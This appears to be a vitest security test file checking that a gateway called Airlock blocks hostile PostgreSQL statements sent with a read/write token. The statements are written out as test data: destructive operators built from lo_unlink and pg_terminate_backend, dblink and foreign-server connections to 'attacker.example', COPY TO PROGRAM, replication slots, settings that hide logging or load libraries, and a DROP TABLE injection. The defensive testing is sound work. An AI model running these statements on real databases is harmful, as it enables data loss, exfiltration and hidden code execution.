/**
 * The attacks of the security review, sent by node-postgres through the door with a token that
 * may read and write anywhere (`read:*`, `write:*`) but holds neither destructive nor privilege
 * work: objects that call code later, settings that change how the server reads SQL, replication
 * and foreign servers. Each must be held (42501), and the database must show it: the large
 * object, the other session, the rows, the settings as they were.
 */
import { existsSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import pg from 'pg';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { recordAttack } from '../../support/attacks.js';
import { agentClient, PG_ADMIN, startPostgresWorld, type PostgresWorld } from './support.js';

const SETUP = `
CREATE TABLE orders (id int PRIMARY KEY, amount numeric);
INSERT INTO orders SELECT g, g * 10 FROM generate_series(1, 60) g;
CREATE TABLE victim (id int);
INSERT INTO victim VALUES (1);
SELECT lo_create(4242), lo_create(4243);
-- Made before Airlock stood in front of the database: an operator that deletes large objects.
CREATE OPERATOR #! (FUNCTION = lo_unlink, RIGHTARG = oid);
`;

let world: PostgresWorld;
let agent: pg.Client;
let bystander: pg.Client;
const marker = join(tmpdir(), `airlock-copy-program-${process.pid}`);

beforeAll(async () => {
  world = await startPostgresWorld({ prefix: 'codelater', setup: SETUP, config: { postgres: { plaintext: 'loopback' } } });
  const token = await world.airlock.token('ordinary-bot', ['read:*', 'write:*']);
  agent = agentClient(world, 'ordinary-bot', token);
  await agent.connect();
  // Another session, straight to PostgreSQL: the one pg_terminate_backend would end.
  bystander = new pg.Client({ ...PG_ADMIN, database: world.db.name });
  await bystander.connect();
});

afterAll(async () => {
  await agent?.end();
  await bystander?.end();
  await world?.close();
});

/** `shown`: the attack as docs/attacks.md lists it, without what differs from run to run (a pid, a name). */
async function expectHeld(category: string, sql: string, effect: string, shown = sql): Promise<void> {
  const error = await agent.query(sql).then(
    () => undefined,
    (e: pg.DatabaseError) => e,
  );
  expect(error, sql).toBeInstanceOf(Error);
  expect(error!.code, `${sql}: ${error!.message}`).toBe('42501');
  expect(error!.hint).toMatch(/^Stop\. Do not retry/);
  recordAttack({ door: 'postgres', category, attack: shown, outcome: 'held', effect });
}

const count = async (sql: string): Promise<number> => Number((await world.db.query(sql)).rows[0]!.n);

describe('functions called later, by other objects', () => {
  it('holds an operator made of lo_unlink, and the large object is still there', async () => {
    await expectHeld('functions called later, by other objects', 'CREATE OPERATOR ### (FUNCTION = lo_unlink, RIGHTARG = oid)', 'large object 4242 still there');
    await expectHeld('functions called later, by other objects', 'SELECT ### 4242::oid', 'large object 4242 still there');
    expect(await count("SELECT count(*) AS n FROM pg_operator WHERE oprname = '###'")).toBe(0);
    expect(await count('SELECT count(*) AS n FROM pg_largeobject_metadata WHERE oid = 4242')).toBe(1);
  });

  it('holds the use of an operator that already exists and is not PostgreSQL’s own', async () => {
    await expectHeld('functions called later, by other objects', 'SELECT #! 4243::oid', 'large object 4243 still there');
    expect(await count('SELECT count(*) AS n FROM pg_largeobject_metadata WHERE oid = 4243')).toBe(1);
  });

  it('holds an operator made of pg_terminate_backend, and the other session lives', async () => {
    const pid = (await bystander.query('SELECT pg_backend_pid() AS pid')).rows[0]!.pid as number;
    await expectHeld(
      'functions called later, by other objects',
      'CREATE OPERATOR #@ (FUNCTION = pg_terminate_backend, RIGHTARG = int)',
      'the other session answers',
    );
    await expectHeld('functions called later, by other objects', `SELECT #@ ${pid}`, 'the other session answers', "SELECT #@ <the other session's pid>");
    expect((await bystander.query('SELECT 1 AS one')).rows[0]!.one).toBe(1);
  });

  it.each([
    'CREATE AGGREGATE wipe(oid) (SFUNC = lo_unlink_step, STYPE = int)',
    'CREATE CAST (int AS text) WITH FUNCTION pg_terminate_backend(int)',
    'CREATE TRIGGER t BEFORE INSERT ON orders FOR EACH ROW EXECUTE FUNCTION unknown_fn()',
    'CREATE RULE r AS ON UPDATE TO orders DO INSTEAD DELETE FROM orders WHERE id = NEW.id',
  ])('holds %s, and nothing was created', async (sql) => {
    await expectHeld('functions called later, by other objects', sql, 'no aggregate, cast, trigger or rule created');
    expect(await count("SELECT count(*) AS n FROM pg_trigger WHERE tgname = 't'")).toBe(0);
    expect(await count("SELECT count(*) AS n FROM pg_rules WHERE tablename = 'orders'")).toBe(0);
    expect(await count("SELECT count(*) AS n FROM pg_proc WHERE proname = 'wipe'")).toBe(0);
  });

  it('holds DO INSTEAD NOTHING, and later inserts still land', async () => {
    await expectHeld('functions called later, by other objects', 'CREATE RULE r AS ON INSERT TO orders DO INSTEAD NOTHING', 'an insert afterwards is kept');
    await agent.query('INSERT INTO orders VALUES (1000, 1)');
    expect(await count('SELECT count(*) AS n FROM orders WHERE id = 1000')).toBe(1);
  });
});

describe('two readings of one statement', () => {
  it.each([
    "UPDATE pg_settings SET setting = 'off' WHERE name = 'standard_conforming_strings'",
    "UPDATE pg_settings SET setting = 'SJIS' WHERE name = 'client_encoding'",
    "SELECT set_config('standard_conforming_strings', 'off', false)",
  ])('holds %s, and the session still reads strings as Airlock does', async (sql) => {
    const error = await agent.query(sql).then(
      () => undefined,
      (e: pg.DatabaseError) => e,
    );
    // Held as privilege, or refused outright by the door's own guard on these settings.
    expect(['42501', '0A000'], `${sql}: ${error?.message}`).toContain(error?.code);
    recordAttack({
      door: 'postgres',
      category: 'two readings of one statement',
      attack: sql,
      outcome: error?.code === '42501' ? 'held' : 'refused',
      effect: 'victim table still there',
    });
    const reading = await agent.query('SHOW standard_conforming_strings');
    expect(reading.rows[0]!.standard_conforming_strings).toBe('on');
    await agent.query("SELECT 'a\\', 'b; DROP TABLE victim; --'");
    expect(await count('SELECT count(*) AS n FROM victim')).toBe(1);
  });

  it.each([
    `ALTER DATABASE {db} SET standard_conforming_strings = off`,
    `ALTER DATABASE {db} SET client_encoding = 'SJIS'`,
    `ALTER ROLE postgres SET standard_conforming_strings = off`,
    `CREATE FUNCTION later() RETURNS int LANGUAGE sql SET standard_conforming_strings = off AS 'SELECT 1'`,
  ])('holds %s, and no setting is stored', async (template) => {
    await expectHeld(
      'two readings of one statement',
      template.replace('{db}', world.db.name),
      'pg_db_role_setting unchanged',
      template.replace('{db}', '<its database>'),
    );
    // This database's settings and those for every database: other test files set their own databases' at the same time.
    const stored = 'SELECT count(*) AS n FROM pg_db_role_setting WHERE setdatabase IN (0, (SELECT oid FROM pg_database WHERE datname = current_database()))';
    expect(await count(stored)).toBe(0);
  });
});

describe('replication, foreign servers and superuser settings', () => {
  it.each([
    ['CREATE PUBLICATION everything FOR ALL TABLES', 'SELECT count(*) AS n FROM pg_publication'],
    ["SELECT pg_create_logical_replication_slot('out', 'pgoutput')", 'SELECT count(*) AS n FROM pg_replication_slots'],
    ["CREATE SERVER elsewhere FOREIGN DATA WRAPPER dblink_fdw OPTIONS (host 'attacker.example')", 'SELECT count(*) AS n FROM pg_foreign_server'],
    ["SELECT dblink_connect('host=attacker.example')", 'SELECT 0 AS n'],
    [`COPY (SELECT 1) TO PROGRAM 'touch ${marker}'`, 'SELECT 0 AS n'],
  ])('holds %s', async (sql, check) => {
    await expectHeld('replication, foreign servers and COPY … PROGRAM', sql, 'no publication, slot, server or file', sql.replace(marker, '<a new file>'));
    expect(await count(check)).toBe(0);
    expect(existsSync(marker)).toBe(false);
  });

  it.each([
    ["SET log_statement = 'none'", 'log_statement'],
    ["SET session_preload_libraries = 'evil'", 'session_preload_libraries'],
    ["SET dynamic_library_path = '/tmp'", 'dynamic_library_path'],
  ])('holds %s, and the setting is as it was', async (sql, name) => {
    const before = (await agent.query(`SHOW ${name}`)).rows[0]![name];
    await expectHeld('superuser settings that hide activity or load code', sql, `${name} unchanged`);
    expect((await agent.query(`SHOW ${name}`)).rows[0]![name]).toBe(before);
  });
});

describe('ordinary work still flows', () => {
  it('runs narrow writes, session settings and PostgreSQL’s own operators', async () => {
    await agent.query('BEGIN');
    await agent.query('SET search_path = public');
    await agent.query('SET statement_timeout = 5000');
    await agent.query("SELECT set_config('app.tenant', 'acme', true)");
    await agent.query('DELETE FROM orders WHERE id = 5');
    await agent.query('UPDATE orders SET amount = amount + 1 WHERE id IN (3, 4)');
    await agent.query('COMMIT');
    expect((await agent.query("SELECT 1 + 2 AS n, 'a' || 'b' AS s, 'ab' ~~ 'a%' AS l")).rows[0]).toEqual({ n: 3, s: 'ab', l: true });
    expect(await count('SELECT count(*) AS n FROM orders WHERE id = 5')).toBe(0);
    expect(await count('SELECT count(*) AS n FROM orders')).toBe(60);
  });
});
